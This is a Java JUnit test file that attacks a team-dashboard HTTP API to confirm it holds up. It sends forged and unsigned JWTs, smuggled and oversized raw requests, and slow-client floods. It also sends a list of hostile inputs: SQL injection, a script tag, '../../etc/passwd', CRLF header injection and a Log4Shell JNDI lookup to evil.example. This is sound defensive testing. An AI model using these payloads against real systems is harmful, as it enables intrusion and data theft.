package ocs.pulse.http;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import com.fasterxml.jackson.databind.ObjectMapper;
import com.nimbusds.jose.JWSAlgorithm;
import com.nimbusds.jose.JWSHeader;
import com.nimbusds.jose.crypto.MACSigner;
import com.nimbusds.jwt.JWTClaimsSet;
import com.nimbusds.jwt.PlainJWT;
import com.nimbusds.jwt.SignedJWT;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.net.Socket;
import java.net.SocketException;
import java.net.URLEncoder;
import java.net.http.HttpRequest.BodyPublishers;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.Clock;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Date;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.concurrent.CompletableFuture;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import ocs.pulse.auth.JwtTokens;
import ocs.pulse.auth.SessionKey;
import ocs.pulse.auth.Sessions;
import ocs.pulse.http.transport.Transport;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.Test;

/** Callers who send what no honest one would, against real answers about real teams. */
final class AbuseTest {
    private static final byte[] SECRET = "a secret that has 32 bytes or more".getBytes(StandardCharsets.UTF_8);
    private static final Duration PATIENCE = Duration.ofSeconds(1);
    private static final List<String> HOSTILE = List.of(
            "",
            " ",
            "'; drop table teams_team; --",
            "<script>alert(1)</script>",
            "../../etc/passwd",
            "%00",
            "\u0000",
            "\r\nX-Injected: yes",
            "${jndi:ldap://evil.example/a}",
            "\uD83D\uDE00\u202E\u0301",
            "-1",
            "9223372036854775808",
            "NaN",
            "1e999",
            "[[[[[[[[[[[[[[[[",
            "[" + "\"a\",".repeat(500) + "\"a\"]",
            "{\"a\": 1}",
            "null",
            "a".repeat(5_000));
    private static final Map<String, List<String>> PARAMETERS = Map.of(
            "dashboard/bot-performance",
            List.of(
                    "date_range",
                    "start_date",
                    "end_date",
                    "granularity",
                    "experiments",
                    "participants",
                    "tags",
                    "channels",
                    "page",
                    "page_size",
                    "order_by",
                    "order_dir",
                    "tz",
                    "now",
                    "min_lsn",
                    "unheard_of"),
            "dashboard/user-engagement",
            List.of("limit"),
            "dashboard/filters",
            List.of("search", "limit"),
            "chatbots",
            List.of("search", "show_archived", "page", "page_size", "sort", "cursor", "now"),
            "sessions",
            List.of(
                    "chatbot",
                    "page",
                    "page_size",
                    "sort",
                    "cursor",
                    "now",
                    "filter_0_column",
                    "filter_0_operator",
                    "filter_0_value",
                    "filter_99999999999_column"),
            "datasets/session-keys",
            List.of("filter_0_column", "now"),
            "datasets/sessions",
            List.of("filter_0_column", "cursor", "format"),
            "chatbots/1/trends",
            List.of("now", "format", "standby"));

    private static final GoldenAnswers ANSWERS = new GoldenAnswers();
    private static final HttpBench BENCH = new HttpBench(
            ANSWERS,
            new Callers(
                    JwtTokens.ofSecret(
                            new JwtTokens.Expected("https://chat.example", "ocs-pulse", Clock.systemUTC()), SECRET),
                    new Sessions(SessionKey.random(), Duration.ofHours(1), Clock.systemUTC()),
                    new CallerLimits(100, 4),
                    new FailedExchanges(Optional.empty())),
            new Transport("127.0.0.1", 0, Optional.empty(), PATIENCE),
            List.of("https://known.example"));

    private final ObjectMapper json = new ObjectMapper();

    @AfterAll
    static void close() {
        BENCH.close();
    }

    @Test
    void shouldAnswerAlikeToEveryTokenThatProvesNothing() throws Exception {
        String path = "/api/teams/team-1/dashboard/overview";
        List<String> bad = List.of(
                token("ada", "ocs-pulse", Instant.now().minusSeconds(3_600), SECRET),
                token("ada", "another-program", soon(), SECRET),
                token(
                        "ada",
                        "ocs-pulse",
                        soon(),
                        "another secret, of 32 bytes or more".getBytes(StandardCharsets.UTF_8)),
                new PlainJWT(claims("ada", "ocs-pulse", soon(), "team-1").build()).serialize(),
                signed(
                        claims("ada", "ocs-pulse", soon(), "team-1")
                                .notBeforeTime(Date.from(Instant.now().plusSeconds(300))),
                        SECRET),
                signed(claims("ada", "ocs-pulse", soon(), "team-1").issuer("https://evil.example"), SECRET),
                "e30.e30.",
                "x".repeat(7_000));
        String refused = BENCH.get(null, path).body();
        for (String token : bad) {
            HttpResponse<String> response = BENCH.get(token, path);
            assertThat(response.statusCode()).isEqualTo(401);
            assertThat(response.body()).isEqualTo(refused);
        }
        for (String cookie : List.of("pulse_session=", "pulse_session=" + good("ada"), "pulse_session=a.b.c.d.e")) {
            assertThat(BENCH.get(null, path, "Cookie", cookie).body())
                    .as(cookie)
                    .isEqualTo(refused);
        }
        assertThat(BENCH.get(good("ada"), path).statusCode()).isEqualTo(200);
    }

    @Test
    void shouldAnswerToWhatIsNoRequestAndGoOn() throws Exception {
        String body = "Host: x\r\nContent-Type: application/json\r\nConnection: close\r\n";
        Map<String, Integer> requests = Map.of(
                "GET /api/teams/%u0041/dashboard HTTP/1.1\r\n" + body + "\r\n",
                400,
                "GET /api/teams/%zz/dashboard HTTP/1.1\r\n" + body + "\r\n",
                400,
                "GET /health/live HTTP/1.1\r\nHost: a\r\n" + body + "\r\n",
                400,
                "GET /health/live HTTP/1.1\r\n" + body + "X: " + "a".repeat(1_000_000) + "\r\n\r\n",
                431,
                "GET /" + "a".repeat(1_000_000) + " HTTP/1.1\r\n" + body + "\r\n",
                414,
                "POST /session HTTP/1.1\r\n" + body + "Transfer-Encoding: chunked\r\n\r\nZZ\r\n{}\r\n0\r\n\r\n",
                400,
                "POST /session HTTP/1.1\r\n" + body + "Content-Length: 9\r\nTransfer-Encoding: chunked\r\n\r\n",
                400,
                "POST /session HTTP/1.1\r\n" + body + "Content-Length: -1\r\n\r\n",
                400,
                "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
                426,
                "\u0016\u0003\u0001\u0002\r\n\r\n",
                400);
        for (Map.Entry<String, Integer> request : requests.entrySet()) {
            String said =
                    request.getKey().substring(0, Math.min(60, request.getKey().length()));
            assertThat(raw(request.getKey()))
                    .as(said)
                    .startsWith("HTTP/1.1 " + request.getValue())
                    .contains("application/problem+json");
        }
        assertThat(BENCH.get(good("ada"), "/api/teams/team-1/dashboard/overview")
                        .statusCode())
                .isEqualTo(200);
    }

    /** What comes back to these bytes until the server closes, or hangs up on what it does not want to read. */
    private static String raw(String request) throws IOException {
        ByteArrayOutputStream answer = new ByteArrayOutputStream();
        try (Socket socket = new Socket("127.0.0.1", BENCH.server.port())) {
            socket.setSoTimeout(10_000);
            CompletableFuture<Void> sending = CompletableFuture.runAsync(() -> {
                try {
                    socket.getOutputStream().write(request.getBytes(StandardCharsets.ISO_8859_1));
                } catch (IOException hungUp) {
                    // The answer is there already.
                }
            });
            byte[] block = new byte[8_192];
            try {
                for (int read = socket.getInputStream().read(block);
                        read >= 0;
                        read = socket.getInputStream().read(block)) {
                    answer.write(block, 0, read);
                }
            } catch (SocketException hungUp) {
                assertThat(answer.size()).as("said before it hung up").isPositive();
            }
            sending.join();
        }
        return answer.toString(StandardCharsets.ISO_8859_1);
    }

    @Test
    void shouldAnswerHostileTextAsAnyOther() throws Exception {
        for (Map.Entry<String, List<String>> route : PARAMETERS.entrySet()) {
            for (String parameter : route.getValue()) {
                String token = good("sender of " + parameter);
                for (String text : HOSTILE) {
                    String path = "/api/teams/team-1/" + route.getKey() + "?" + parameter + "="
                            + URLEncoder.encode(text, StandardCharsets.UTF_8);
                    HttpResponse<String> response = BENCH.get(token, path);
                    assertThat(response.statusCode()).as(path).isIn(200, 400, 504);
                    assertThat(HttpBench.header(response, "Content-Type")).contains("json");
                    assertThat(HttpBench.header(response, "X-Injected")).isEmpty();
                    assertThat(HttpBench.header(response, "X-Content-Type-Options"))
                            .isEqualTo("nosniff");
                    json.readTree(response.body());
                }
            }
        }
    }

    @Test
    void shouldRefuseHostilePaths() throws Exception {
        String token = good("paths");
        for (String path : List.of(
                "/api/teams/%2e%2e/dashboard",
                "/api/teams/team-1%2fdashboard",
                "/api/teams/team-1%00/dashboard",
                "/api/teams/team-1;a=b/sessions",
                "/api/teams/team-1/chatbots/1e9/trends",
                "/api/teams/" + "a".repeat(2_000) + "/dashboard",
                "//api/teams/team-1/dashboard")) {
            assertRefused(token, path);
        }
        for (String text : HOSTILE) {
            String segment = URLEncoder.encode(text, StandardCharsets.UTF_8);
            assertRefused(token, "/api/teams/" + segment + "/dashboard");
            assertRefused(token, "/api/teams/team-1/chatbots/" + segment + "/trends");
            assertRefused(token, "/api/teams/team-1/dashboard/" + segment + "x");
            assertRefused(token, "/assets/" + segment + "/main.js");
        }
    }

    private static void assertRefused(String token, String path) throws Exception {
        HttpResponse<String> response = BENCH.get(token, path);
        assertThat(response.statusCode()).as(path).isIn(400, 404);
        assertThat(HttpBench.header(response, "Content-Type")).as(path).contains("problem+json");
        assertThat(HttpBench.header(response, "X-Injected")).as(path).isEmpty();
    }

    @Test
    void shouldBoundPagesListsAddressesHeadersAndBodies() throws Exception {
        String token = good("bounds");
        assertThat(BENCH.get(token, "/api/teams/team-1/sessions?page_size=201").statusCode())
                .isEqualTo(400);
        assertThat(BENCH.get(token, "/api/teams/team-1/sessions?page=2147483647")
                        .statusCode())
                .isEqualTo(200);
        assertThat(BENCH.get(token, "/api/teams/team-1/sessions?page=99999999999")
                        .statusCode())
                .isEqualTo(400);
        assertThat(BENCH.get(token, "/api/teams/team-1/dashboard/overview?" + ids(1_000))
                        .statusCode())
                .isEqualTo(200);
        assertProblem(BENCH.get(token, "/api/teams/team-1/dashboard/overview?" + ids(10_000)), 414);
        assertProblem(BENCH.get(token, "/api/teams/team-1/dashboard", "X-Long", "a".repeat(20_000)), 431);
        // Asks first: a server that will not read the body closes the connection while it is still being written.
        HttpResponse<String> large = BENCH.send(
                BENCH.request("/session")
                        .expectContinue(true)
                        .POST(BodyPublishers.ofString("{\"token\": \"" + "a".repeat(100_000) + "\"}")),
                null,
                "Content-Type",
                "application/json");
        assertProblem(large, 413);
    }

    @Test
    void shouldRefuseWhatBelongsToAnotherTeam() throws Exception {
        String token = good("both");
        HttpResponse<String> first = BENCH.get(token, "/api/teams/team-1/sessions?page_size=5");
        String cursor = json.readTree(first.body()).get("next_cursor").asText();
        assertThat(BENCH.get(token, "/api/teams/team-1/sessions?page_size=5&cursor=" + cursor)
                        .statusCode())
                .isEqualTo(200);
        assertThat(BENCH.get(token, "/api/teams/team-2/sessions?page_size=5&cursor=" + cursor)
                        .statusCode())
                .isEqualTo(400);
        String tag = HttpBench.header(first, "ETag");
        assertThat(BENCH.get(token, "/api/teams/team-1/sessions?page_size=5", "If-None-Match", tag)
                        .statusCode())
                .isEqualTo(304);
        assertThat(BENCH.get(token, "/api/teams/team-2/sessions?page_size=5", "If-None-Match", tag)
                        .statusCode())
                .isEqualTo(200);
        EventClient mine = BENCH.follow(token, "/api/teams/team-1/dashboard/stream");
        await().until(() -> mine.data().size() == 1);
        EventClient others = BENCH.follow(
                token,
                "/api/teams/team-2/dashboard/stream",
                "Last-Event-ID",
                mine.events.get(0).id());
        await().untilAsserted(() -> assertThat(others.data())
                .as("whole, although the client says it has something")
                .hasSize(1)
                .doesNotContainAnyElementsOf(mine.data()));
        mine.close();
        others.close();
        HttpResponse<String> foreign = BENCH.get(token, "/api/teams/team-3/sessions", "If-None-Match", tag);
        HttpResponse<String> unknown = BENCH.get(token, "/api/teams/nobodys/sessions", "If-None-Match", "*");
        assertThat(foreign.statusCode()).isEqualTo(404);
        assertThat(unknown.body()).isEqualTo(foreign.body());
    }

    @Test
    void shouldTellNoOtherSiteAnythingUnlessItIsListed() throws Exception {
        String token = good("cors");
        String path = "/api/teams/team-1/dashboard/overview";
        assertThat(HttpBench.header(
                        BENCH.get(token, path, "Origin", "https://known.example"), "Access-Control-Allow-Origin"))
                .isEqualTo("https://known.example");
        HttpResponse<String> other = BENCH.get(token, path, "Origin", "https://evil.example");
        assertThat(HttpBench.header(other, "Access-Control-Allow-Origin")).isEmpty();
        assertThat(HttpBench.header(other, "Access-Control-Allow-Credentials")).isEmpty();
    }

    @Test
    void shouldSlowDownOneCallerAndNoOther() throws Exception {
        String hasty = good("hasty");
        List<Integer> statuses = new ArrayList<>();
        HttpResponse<String> refused = null;
        for (int request = 0; request < 5_000 && refused == null; request++) {
            HttpResponse<String> response = BENCH.get(hasty, "/api/teams/team-2/dashboard", "If-None-Match", "\"no\"");
            statuses.add(response.statusCode());
            refused = response.statusCode() == 429 ? response : null;
        }
        assertThat(refused).isNotNull();
        assertProblem(refused, 429);
        assertThat(HttpBench.header(refused, "Retry-After")).isEqualTo("1");
        assertThat(statuses).contains(200);
        assertThat(BENCH.get(good("calm"), "/api/teams/team-2/dashboard").statusCode())
                .isEqualTo(200);
    }

    @Test
    void shouldHangUpOnWhoSendsBitByBitAndServeTheOthersMeanwhile() throws Exception {
        long before = usedMemory();
        List<Socket> slow = new ArrayList<>();
        try {
            for (int client = 0; client < 300; client++) {
                Socket socket = new Socket("127.0.0.1", BENCH.server.port());
                slow.add(socket);
                socket.getOutputStream()
                        .write(
                                client % 3 == 0
                                        ? new byte[0]
                                        : "GET /api/teams/team-1/".getBytes(StandardCharsets.US_ASCII));
            }
            CompletableFuture<Void> trickle = CompletableFuture.runAsync(() -> trickle(slow));
            String token = good("patient");
            while (!trickle.isDone()) {
                long begin = System.nanoTime();
                assertThat(patiently(token, "/api/teams/team-1/dashboard/overview")
                                .statusCode())
                        .isEqualTo(200);
                assertThat(Duration.ofNanos(System.nanoTime() - begin)).isLessThan(Duration.ofSeconds(5));
            }
            trickle.join();
        } finally {
            for (Socket socket : slow) {
                socket.close();
            }
        }
        assertThat(usedMemory() - before).isLessThan(64L << 20);
    }

    /** Sends a byte at a time to all that have begun a request, until each of them was hung up on. */
    private static void trickle(List<Socket> sockets) {
        List<Socket> begun = IntStream.range(0, sockets.size())
                .filter(client -> client % 3 != 0)
                .mapToObj(sockets::get)
                .collect(Collectors.toCollection(ArrayList::new));
        await().atMost(PATIENCE.multipliedBy(30))
                .pollInterval(Duration.ofMillis(100))
                .until(() -> {
                    begun.removeIf(AbuseTest::isHungUpOn);
                    return begun.isEmpty();
                });
    }

    static boolean isHungUpOn(Socket socket) {
        try {
            socket.getOutputStream().write('a');
            return false;
        } catch (IOException hungUp) {
            return true;
        }
    }

    private static long usedMemory() {
        System.gc();
        return Runtime.getRuntime().totalMemory() - Runtime.getRuntime().freeMemory();
    }

    /** Comes again when it is told to. */
    private static HttpResponse<String> patiently(String token, String path) throws Exception {
        HttpResponse<String> response = BENCH.get(token, path);
        if (response.statusCode() != 429) {
            return response;
        }
        return await().pollInterval(Duration.ofMillis(50))
                .until(() -> BENCH.get(token, path), later -> later.statusCode() != 429);
    }

    private static void assertProblem(HttpResponse<String> response, int status) {
        assertThat(response.statusCode()).isEqualTo(status);
        assertThat(HttpBench.header(response, "Content-Type")).startsWith("application/problem+json");
        assertThat(response.body()).contains("\"status\":" + status);
    }

    private static String ids(int count) {
        return IntStream.rangeClosed(1, count).mapToObj(id -> "tags=" + id).collect(Collectors.joining("&"));
    }

    private static Instant soon() {
        return Instant.now().plusSeconds(600);
    }

    private static String good(String name) throws Exception {
        return token(name, "ocs-pulse", soon(), SECRET);
    }

    private static String token(String name, String audience, Instant end, byte[] secret) throws Exception {
        return signed(claims(name, audience, end, "team-1", "team-2", "nobodys"), secret);
    }

    private static String signed(JWTClaimsSet.Builder claims, byte[] secret) throws Exception {
        SignedJWT token = new SignedJWT(new JWSHeader(JWSAlgorithm.HS256), claims.build());
        token.sign(new MACSigner(secret));
        return token.serialize();
    }

    private static JWTClaimsSet.Builder claims(String name, String audience, Instant end, String... teams) {
        return new JWTClaimsSet.Builder()
                .issuer("https://chat.example")
                .audience(audience)
                .subject(name)
                .claim("teams", List.of(teams))
                .expirationTime(Date.from(end));
    }
}
